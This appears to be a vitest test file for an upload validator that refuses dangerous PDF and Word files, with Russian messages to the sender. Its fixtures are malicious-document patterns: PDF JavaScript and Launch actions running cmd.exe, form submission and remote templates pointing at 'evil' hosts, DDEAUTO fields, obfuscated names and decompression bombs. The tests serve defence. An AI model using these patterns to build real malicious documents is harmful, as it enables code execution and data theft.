import { deflateSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import { pdfOf } from "../../../test/fixtures/pdf.ts";
import { type ZipFile, zip } from "../../../test/fixtures/zip.ts";
import { fileTaken } from "./file-taken.ts";
import type { FileType } from "./file-type.ts";

const kinds: FileType[] = ["pdf", "jpeg", "png", "docx"];
/** What the sender is told, in Russian; undefined where the file is taken. */
const said = async (bytes: Uint8Array): Promise<string | undefined> => {
  try {
    await fileTaken(bytes, kinds);
    return undefined;
  } catch (error) {
    return (error as { text: { ru: string } }).text.ru;
  }
};

describe("a PDF", () => {
  const script = "<</S/JavaScript/JS(app.alert(1))>>";
  const stored = (body: string, filter: string) => `<</Type/ObjStm${filter}>>stream\n${body}\nendstream`;
  /** As readers take it that know an object stream by where its first object is. */
  const untyped = (more: string, first = "/First") => {
    const packed = deflateSync(Buffer.from(`4 0 ${script}`)).toString("latin1");
    return pdfOf({ objects: [`<</N 1${first} 4/Filter/FlateDecode${more}>>stream\n${packed}\nendstream`] });
  };
  /** What follows hides that it is packed in a way which is not unpacked here. */
  const hidden = (by: string) =>
    pdfOf({ objects: [`<</Filter/LZWDecode${by}/Type/ObjStm/N 1/First 4>>stream\nA\nendstream`] });
  it.each([
    ["with a script", pdfOf({ objects: [script] }), /сценарии/],
    ["with a script whose name is spelt in codes", pdfOf({ objects: ["<</S/J#61v#61Script>>"] }), /сценарии/],
    ["with a script in all codes", pdfOf({ objects: ["<</S/#4a#61#76#61#53#63#72#69#70#74 >>"] }), /сценарии/],
    ["with packed scripts", pdfOf({ packed: `4 0 ${script}` }), /сценарии/],
    ["that starts a program", pdfOf({ objects: ["<</S/Launch/F(cmd.exe)>>"] }), /запускает программы/],
    ["that starts a program, packed", pdfOf({ packed: "4 0 <</S/L#61unch>>" }), /запускает программы/],
    ["with a file in it", pdfOf({ objects: ["<</Type/EmbeddedFile>>"] }), /вложены другие файлы/],
    ["of XFA", pdfOf({ objects: ["<</XFA[(template)5 0 R]>>"] }), /XFA/],
    ["with a film", pdfOf({ objects: ["<</Subtype/RichMedia>>"] }), /мультимедиа/],
    ["protected, with packed objects", pdfOf({ packed: "4 0 <<>>", trailer: "/Encrypt 9 0 R" }), /защищён/],
    ["packed with a predictor", pdfOf({ packed: "4 0 <<>>", dictionary: "/DecodeParms<</Predictor 12>>" }), /необычно/],
    ["packed twice", pdfOf({ packed: "4 0 <<>>", dictionary: "/Filter/LZWDecode" }), /необычно/],
    ["packed otherwise", pdfOf({ objects: [stored("AAAA", "/Filter/ASCIIHexDecode")] }), /необычно/],
    ["that says elsewhere how it is packed", pdfOf({ objects: [stored("AAAA", "/Filter 7 0 R")] }), /необычно/],
    ["whose packed objects are damaged", pdfOf({ objects: [stored("AAAA", "/Filter/FlateDecode")] }), /повреждён/],
    ["that speaks of packed objects and has none", pdfOf({ objects: ["/ObjStm"] }), /необычно/],
    [
      "that opens a file of a share",
      pdfOf({ objects: ["<</S/GoToR/F(\\\\\\\\evil\\\\a)/D[0/Fit]>>"] }),
      /другому файлу/,
    ],
    ["that sends itself away", pdfOf({ objects: ["<</S/SubmitForm/F(http://evil)>>"] }), /другому файлу/],
    ["with a file of no kind in it", pdfOf({ objects: ["<</F(a.exe)/EF%\n<</F 9 0 R>>>>"] }), /вложены другие файлы/],
    [
      "with a file of no kind in it, elsewhere",
      pdfOf({ objects: ["<</F(a.exe)/E#46 7 0 R>>"] }),
      /вложены другие файлы/,
    ],
    [
      "with a file of no kind in it, behind signs of comments",
      pdfOf({ objects: [`/EF ${"% ".repeat(5000)}`] }),
      /вложены/,
    ],
    ["with a file of no kind in it, behind digits", pdfOf({ objects: [`/EF ${"0".repeat(100_000)}`] }), /вложены/],
    ["with 10,000 such files", pdfOf({ objects: ["/EF /a\n".repeat(10_000)] }), /необычно/],
    [
      "that says 50,000 times how it is packed",
      pdfOf({ objects: [stored("A", "/Filter[".repeat(50_000))] }),
      /необычно/,
    ],
    ["with scripts in a packed stream of no kind", untyped(""), /сценарии/],
    ["with scripts in such a stream, in codes", untyped("", "/F#69rst"), /сценарии/],
    ["whose text says that no stream follows", untyped("/T(endobj )"), /необычно/],
    ["whose comment says that no stream follows", untyped("%endobj\n"), /необычно/],
    ["with a second stream in a text", untyped(`/T(stream\n${deflateSync("").toString("latin1")})`), /необычно/],
    ["whose packing is hidden behind a name", hidden("/Xobj 1"), /необычно/],
    ["whose packing is hidden behind a text", hidden("/X(\n1 0 obj<<)"), /необычно/],
    ["whose packing is hidden behind a comment", hidden("%1 0 obj<<\n"), /необычно/],
    ["whose objects unpack to 65 MB", pdfOf({ packed: " ".repeat(65 * 2 ** 20) }), /необычно/],
  ])("%s is refused, and the sender learns how to send it", async (_, bytes, why) => {
    expect(await said(bytes)).toMatch(why);
    expect(await said(bytes)).toContain("«Сохранить как PDF»");
  });

  it.each([
    ["plain", pdfOf({})],
    ["with packed objects", pdfOf({ packed: "4 0 <</Type/Font/BaseFont/Arial>>" })],
    ["with objects in a stream that is not packed", pdfOf({ objects: [stored("4 0 <<>>", "")] })],
    [
      "with many streams in one another",
      pdfOf({
        objects: [`<</First 1>>stream ${"\n1 0 obj<</First 1>>stream ".repeat(5_000)}${" ".repeat(2 ** 20)}endstream`],
      }),
    ],
    ["signed by a state body", pdfOf({ objects: ["<</Type/Sig/Filter/Adobe.PPKLite/ByteRange[0 9 9 9]>>"] })],
    ["with a form to fill in", pdfOf({ objects: ["<</AcroForm<</Fields[]>>/OpenAction[3 0 R/Fit]>>"] })],
    [
      "with outlines",
      pdfOf({
        objects: ["<</Type/Outlines/First 5 0 R>>", "<</First 6 0 R/Title(100% \\(upstream (a))>>"],
        packed: "4 0 <<>>",
      }),
    ],
    ["protected from changes", pdfOf({ trailer: "/Encrypt 9 0 R" })],
    ["with words about scripts", pdfOf({ objects: ["(JavaScript, Launch and /JavaScripts)"] })],
    ["with a packed picture", Buffer.concat([pdfOf({}), deflateSync(Buffer.from("/Launch ")), Buffer.from("%%EOF")])],
  ])("%s is taken", async (_, bytes) => {
    expect(await said(bytes)).toBeUndefined();
  });
});

describe("a Word document", () => {
  const office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
  const docx = (relation: string, more: ZipFile[] = [], types = "<Types/>") =>
    zip([
      { name: "[Content_Types].xml", content: types },
      { name: "word/document.xml", content: "<document/>" },
      { name: "word/_rels/settings.xml.rels", content: `<Relationships>${relation}</Relationships>` },
      ...more,
    ]);
  const to = (type: string, target: string) =>
    `<Relationship Id="a" Type="${office}/${type}" Target="${target}" TargetMode="External"/>`;
  const macros = docx("", [], `<Types><Override ContentType="application/vnd.ms-office.vbaProject"/></Types>`);
  const relation = `Type="${office}/oleObject" Target="a"`;
  const macroRelation = `<Relationships><Relationship Id="a" ${relation}/></Relationships>`;
  const link = `${office}/hyperlink`;
  const decoyed = (type: string, target: string) =>
    `<Relationship Id="x Type='${link}'" Type="${office}/${type}" Target="${target}" a:Type="${link}"/>`;
  const ended = `<Relationship Target="http://evil/?a>b" Type="${office}/attachedTemplate"/>`;
  const utf7 = `<?xml version="1.0" encoding="utf-7"?><Relationships/>`;
  const wide = Buffer.from(
    `\uFEFF<Relationships><Relationship Id="\u0122 Type='a'" ${relation}/></Relationships>`,
    "utf16le",
  );
  const field = (...pieces: string[]) =>
    `<w:r>${pieces.map((piece) => `<w:instrText xml:space="preserve">${piece}</w:instrText>`).join("</w:r><w:r>")}</w:r>`;
  const withPart = (body: string) => docx("", [{ name: "word/header1.xml", content: `<w:hdr>${body}</w:hdr>` }]);
  const nested = (inner: Uint8Array) => docx("", [{ name: "word/embeddings/a.docx", content: inner }]);
  /** Documents inside a document, each of which is a little of nothing that unpacks to nine megabytes, and so packs well itself. */
  const swollen = (count: number) => {
    const nothing = Buffer.alloc(9 * 2 ** 20);
    const padding = { name: "word/media/a.png", content: nothing.subarray(0, 100_000), stored: true };
    const content = docx("", [{ name: "word/media/b.png", content: nothing }, padding]);
    const documents = Array.from({ length: count }, (_, i) => ({ name: `word/embeddings/${i}.docx`, content }));
    return docx("", [padding, ...documents]);
  };
  it.each([
    [
      "whose template is on a site",
      docx(to("attachedTemplate", "https://evil.example/a.dotm")),
      /с другого компьютера/,
    ],
    ["whose template is on a share", docx(to("attachedTemplate", "\\\\evil.example\\a.dotm")), /с другого компьютера/],
    [
      "whose template is on a share, as a file",
      docx(to("attachedTemplate", "file://evil/a.dotm")),
      /с другого компьютера/,
    ],
    ["whose template is in codes", docx(to("attached&#x54;emplate", "&#104;ttp://evil/a")), /с другого компьютера/],
    [
      "in UTF-16",
      docx(Buffer.from(to("frame", "http://evil/a"), "utf16le").toString("latin1")),
      /с другого компьютера/,
    ],
    ["with an object of another program", docx(to("oleObject", "http://evil/a.hta")), /макросы/],
    ["with macros under another name", macros, /макросы/],
    ["with macros in a document in it", nested(macros), /макросы/],
    ["in which documents are nested", nested(nested(nested(docx("")))), /слишком глубоко/],
    ["in which documents unpack to 108 MB together", swollen(12), /больше 100 МБ/],
    [
      "whose relations are 5 MB",
      docx(" ".repeat(5 * 2 ** 20), [{ name: "word/media/a.png", content: new Uint8Array(60_000), stored: true }]),
      /необычно/,
    ],
    ["with macros told beside a link", docx(decoyed("oleObject", "a.bin")), /макросы/],
    ["whose template follows a sign of an end", docx(ended), /с другого компьютера/],
    ["whose template is told in long codes", docx(to("attached&#x00000000054;emplate", "http://evil/a")), /необычно/],
    [
      "whose template is told beside a link",
      docx(decoyed("attachedTemplate", "http://evil/a")),
      /с другого компьютера/,
    ],
    [
      "whose template is on a share in codes",
      docx(to("attachedTemplate", "file:%2f%2fevil/a")),
      /с другого компьютера/,
    ],
    ["with a picture on a share", docx(to("image", "\\\\evil\\a.png")), /с другого компьютера/],
    [
      "whose relations are in capitals",
      docx("", [{ name: "word/_rels/a.xml.RELS", content: macroRelation }]),
      /макросы/,
    ],
    ["in another encoding", docx("", [{ name: "word/_rels/a.xml.rels", content: utf7 }]), /необычно/],
    [
      "in UTF-16 with signs that look like quotes",
      docx("", [{ name: "word/_rels/a.xml.rels", content: wide }]),
      /макросы/,
    ],
    ["with a field that starts a program", withPart(field("DDEAUTO c:\\windows\\cmd.exe")), /макросы/],
    ["with such a field in pieces", withPart(field("DD", "EAUTO cmd")), /макросы/],
    ["with such a field in one", withPart('<w:fldSimple w:instr="dde cmd"/>'), /макросы/],
    ["with such a field after 100 KB", withPart(`${" ".repeat(65_530)}${field("DDE cmd")}`), /макросы/],
    [
      "with a table that asks a program",
      docx("", [{ name: "xl/a.xml", content: '<ddeLink ddeService="cmd"/>' }]),
      /макросы/,
    ],
    ["with a DTD", docx("<!DOCTYPE a [<!ENTITY x 'y'>]>"), /DTD/],
  ])("%s is refused, and the sender learns how to send it", async (_, bytes, why) => {
    expect(await said(bytes)).toMatch(why);
  });

  it.each([
    ["whose template is on the writer's own disk", docx(to("attachedTemplate", "file:///C:\\Users\\a\\Отдел.dotm"))],
    ["with fields of its own", withPart(field(' TOC \\o "1-3" ', " PAGE "))],
    ["with a picture of a site", docx(to("image", "https://www.gosuslugi.ru/a.png"))],
    ["with a link to a site", docx(to("hyperlink", "https://www.gosuslugi.ru"))],
    ["with a document in it", nested(docx(""))],
  ])("%s is taken", async (_, bytes) => {
    expect(await said(bytes)).toBeUndefined();
  });
});
